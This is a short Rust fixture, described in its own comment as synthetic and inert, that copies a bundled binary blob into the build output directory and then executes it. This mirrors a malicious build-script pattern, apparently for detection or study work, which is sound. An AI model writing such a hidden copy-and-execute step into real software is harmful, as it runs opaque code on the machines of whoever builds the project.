// Synthetic, inert fixture written from public reports; see README
pub fn unpack() {
    let out = std::env::var("OUT_DIR").unwrap();
    std::fs::copy("tests/fixtures/blob.bin", format!("{out}/blob")).unwrap();
    let _ = std::process::Command::new(format!("{out}/blob")).status();
}
